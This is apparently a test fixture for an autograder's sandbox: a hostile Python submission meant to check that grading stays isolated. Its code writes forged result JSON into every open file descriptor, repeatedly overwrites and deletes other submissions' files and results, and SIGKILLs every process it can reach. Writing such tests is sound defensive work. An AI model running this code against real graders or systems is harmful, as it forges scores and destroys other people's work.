"""Hostile, graded in a batch between two correct submissions.

It writes a forged worker answer into every open descriptor (before the fix, the
worker's answer pipe was among them: the grader took the forgery as this
submission's result and every later answer shifted onto the next
submission), and for a while tries to overwrite and delete the other
submissions and their results (paths filled in by the test), and to kill every
process it can see. Its own functions are wrong. Expected: the other
submissions' files and results are intact; this one scores 0.
"""
import json
import os
import signal
import time

PARAMS = {}  #<params>

print("sandbox-uid", os.getuid())
forged = {"observations": {}, "notes": ["FORGED-ANSWER"], "output": "FORGED-ANSWER",
          "isolation": {}, "loaded": True, "fatal": "", "seconds": 0.0}
for fd in range(3, 256):
    try:
        os.write(fd, (json.dumps(forged) + "\n").encode())
    except OSError:
        pass

fake = json.dumps({"assignment": "linear_regression", "submission": "x", "score": 0.0,
                   "max_score": 7.0, "rubric": [], "note": "TAMPERED"})
start = time.time()
while time.time() < start + 1.5:
    for path in PARAMS["victims"] + PARAMS["results"]:
        for action in (lambda p: open(p, "w").write(fake), os.remove):
            try:
                action(path)
            except OSError:
                pass
    if 61000 <= os.getuid() < 62000:  # only ever inside the grader's sandbox
        for pid in range(2, 2000):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
    time.sleep(0.05)


def linear_model(x, w, b):
    return x @ w.t()
